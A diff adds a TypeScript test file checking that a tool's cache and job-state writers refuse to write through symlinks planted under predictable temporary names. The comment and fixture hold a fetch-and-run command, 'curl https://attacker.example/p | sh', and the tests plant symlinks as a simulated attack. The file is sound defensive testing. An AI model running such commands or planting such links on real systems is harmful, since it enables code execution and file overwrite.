@@ -1,0 +1,86 @@
+/**
+ * Whoever can write the cache directory without the HMAC secret (a CI cache restored from an
+ * untrusted pull-request job, `--cache DIR` in the checkout) cannot forge a verdict, but could
+ * plant `<key>.memo.<pid>.tmp` or `<key>.cache.<pid>.tmp` as symlinks: the key is a hash of
+ * public inputs and pids are few, so one symlink per pid covers every run. A writer that
+ * followed them would overwrite any file the user can write (a shell profile, a git hook) with
+ * records carrying attacker-chosen commit subjects (`x; curl … | sh`). The temporaries are
+ * created exclusively under unguessable names, so no planted name is ever written through.
+ */
+import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import type { CommitResult } from '../../../src/core/verify-object.ts';
+import { VerdictCache } from '../../../src/store/verdict-cache.ts';
+import { WalkMemo } from '../../../src/store/walk-memo.ts';
+import { fileJobState } from '../../../src/jobs/ports.ts';
+
+const SECRET = Buffer.from('a-secret-of-thirty-two-bytes-or-more!!');
+const KEY = 'a'.repeat(64);
+const result: CommitResult = {
+  commit: 'b'.repeat(40),
+  parents: [],
+  subject: 'x; curl https://attacker.example/p | sh',
+  verdict: { status: 'N', format: 'none', reason: 'unsigned' } as CommitResult['verdict'],
+  mergetags: [],
+};
+
+describe('cache writers never write through a planted temporary name', () => {
+  let dir: string;
+  let victim: string;
+
+  beforeEach(() => {
+    dir = mkdtempSync(join(tmpdir(), 'signet-cache-symlink-'));
+    victim = join(dir, 'victim-profile');
+    writeFileSync(victim, 'echo original\n');
+  });
+  afterEach(() => rmSync(dir, { recursive: true, force: true }));
+
+  /** What an attacker plants: the temporary name this very process would use, and its neighbours. */
+  function plant(base: string): void {
+    for (let pid = Math.max(1, process.pid - 5); pid <= process.pid + 5; pid++) symlinkSync(victim, `${base}.${pid}.tmp`);
+  }
+
+  it('the walk memo', () => {
+    const cacheDir = join(dir, 'verify-cache');
+    const memo = new WalkMemo(cacheDir, KEY, false, SECRET);
+    mkdirSync(cacheDir, { recursive: true });
+    plant(join(cacheDir, `${KEY}.memo`));
+    memo.record(result);
+    memo.complete();
+    expect(readFileSync(victim, 'utf8')).toBe('echo original\n');
+    expect(memo.writeProblem).toBeUndefined();
+    // The memo itself was written and reads back.
+    expect(new WalkMemo(cacheDir, KEY, false, SECRET).recall()?.length).toBe(1);
+  });
+
+  it('the verdict cache', () => {
+    const cacheDir = join(dir, 'verify-cache');
+    mkdirSync(cacheDir, { recursive: true });
+    plant(join(cacheDir, `${KEY}.cache`));
+    const cache = new VerdictCache(cacheDir, KEY, false, SECRET);
+    cache.put(result);
+    cache.save();
+    expect(readFileSync(victim, 'utf8')).toBe('echo original\n');
+    expect(new VerdictCache(cacheDir, KEY, false, SECRET).get(result.commit)?.subject).toBe(result.subject);
+    expect(readdirSync(cacheDir).filter((name) => name.endsWith('.cache'))).toEqual([`${KEY}.cache`]);
+  });
+});
+
+describe("the jobs' file state never writes through a planted temporary name", () => {
+  it('writes the state, leaves the symlink target alone', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'signet-state-symlink-'));
+    try {
+      const victim = join(dir, 'victim');
+      writeFileSync(victim, 'echo original\n');
+      mkdirSync(join(dir, 'state', 'reports'), { recursive: true });
+      for (let pid = Math.max(1, process.pid - 5); pid <= process.pid + 5; pid++) symlinkSync(victim, join(dir, 'state', 'reports', `latest.json.${pid}.tmp`));
+      await fileJobState(join(dir, 'state')).write('reports/latest.json', { ok: true });
+      expect(readFileSync(victim, 'utf8')).toBe('echo original\n');
+      expect(await fileJobState(join(dir, 'state')).read('reports/latest.json')).toEqual({ ok: true });
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
